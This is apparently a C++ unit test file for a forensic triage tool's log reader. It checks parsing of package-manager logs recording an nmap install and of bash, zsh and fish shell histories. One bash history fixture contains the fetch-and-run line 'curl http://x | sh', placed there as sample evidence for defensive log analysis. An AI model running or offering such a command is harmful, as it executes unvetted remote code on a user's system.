// SPDX-License-Identifier: Apache-2.0
#include "tests/unit/triage/logs/read_all_of.h"

#include <gmock/gmock.h>

namespace firsthour::triage::logs {
namespace {

using testing::SizeIs;

TEST(PackageLog, Dpkg) {
  const ReadAll read = read_all_of(
      "2026-11-23 05:11:28 install nmap:amd64 <none> 7.93\n2026-11-23 05:11:29 status installed nmap:amd64 "
      "7.93\n",
      "dpkg.log", at_beijing());
  ASSERT_EQ(read.summary.kind, LogKind::package);
  EXPECT_EQ(read.entries.at(0)["package.action"], "install");
  EXPECT_EQ(read.entries.at(0)["package.name"], "nmap:amd64");
  EXPECT_EQ(read.entries.at(0)["package.version"], "7.93");
  EXPECT_EQ(read.entries.at(0).time, "2026-11-22T21:11:28.000000000Z");
  EXPECT_EQ(read.entries.at(1)["package.action"], "installed");
}

TEST(PackageLog, AptTellsWhoAskedForWhat) {
  const ReadAll read = read_all_of(
      "\nStart-Date: 2026-11-23  05:11:28\nCommandline: apt install nmap\nRequested-By: bob (1000)\n"
      "Install: nmap:amd64 (7.93)\nEnd-Date: 2026-11-23  05:11:40\n",
      "history.log", at_beijing());
  ASSERT_EQ(read.summary.kind, LogKind::package);
  ASSERT_THAT(read.entries, SizeIs(5));
  EXPECT_EQ(read.entries[3]["command_line"], "apt install nmap");
  EXPECT_EQ(read.entries[3]["user.name"], "bob");
  EXPECT_EQ(read.entries[3].time, "2026-11-22T21:11:28.000000000Z");
  EXPECT_EQ(read.entries[4].time, "2026-11-22T21:11:40.000000000Z");
}

TEST(PackageLog, OtherManagers) {
  const ReadAll yum = read_all_of("Nov 22 10:00:00 Installed: nmap-7.x86_64\n", "yum.log", at_beijing());
  EXPECT_EQ(yum.summary.kind, LogKind::package);
  EXPECT_EQ(yum.entries.at(0)["package.name"], "nmap-7.x86_64");
  EXPECT_EQ(yum.entries.at(0).basis, TimeBasis::year_inferred);
  const ReadAll dnf =
      read_all_of("2026-11-22T10:00:00+0800 SUBDEBUG Installed: nmap-7.x86_64\n", "dnf.rpm.log");
  EXPECT_EQ(dnf.entries.at(0)["package.action"], "Installed");
  const ReadAll pacman =
      read_all_of("[2026-11-22T10:00:00+0000] [ALPM] installed nmap (7.93-1)\n", "pacman.log");
  EXPECT_EQ(pacman.entries.at(0)["package.name"], "nmap");
  EXPECT_EQ(pacman.entries.at(0)["package.version"], "7.93-1");
}

TEST(ShellHistory, StampedCommandsHaveTimes) {
  const ReadAll read =
      read_all_of("ls\n#1700000000\ncurl http://x | sh\n#1700000060\nrm x\n", "/home/bob/.bash_history");
  ASSERT_EQ(read.summary.kind, LogKind::shell_history);
  ASSERT_THAT(read.entries, SizeIs(3));
  EXPECT_EQ(read.entries[0].basis, TimeBasis::none);
  EXPECT_EQ(read.entries[1].time, "2023-11-14T22:13:20.000000000Z");
  EXPECT_EQ(read.entries[1]["command_line"], "curl http://x | sh");
  EXPECT_EQ(read.entries[1]["user.name"], "bob");
  EXPECT_EQ(read.entries[1].line, 3u);
}

TEST(ShellHistory, ZshAndFish) {
  const ReadAll zsh = read_all_of(": 1700000000:0;id; w\n", "/root/.zsh_history");
  EXPECT_EQ(zsh.entries.at(0)["command_line"], "id; w");
  EXPECT_EQ(zsh.entries.at(0)["user.name"], "root");
  EXPECT_EQ(zsh.entries.at(0).basis, TimeBasis::stated);
  const ReadAll fish =
      read_all_of("- cmd: id\n  when: 1700000000\n  paths:\n    - /x\n- cmd: w\n", "fish_history");
  ASSERT_THAT(fish.entries, SizeIs(2));
  EXPECT_EQ(fish.entries[0].time, "2023-11-14T22:13:20.000000000Z");
  EXPECT_EQ(fish.entries[1].basis, TimeBasis::none);
}

TEST(ShellHistory, CommentsAreCommands) {
  const ReadAll read = read_all_of("#not a time\n# 1700000000\n", ".bash_history");
  EXPECT_THAT(read.entries, SizeIs(2));
}

}  // namespace
}  // namespace firsthour::triage::logs
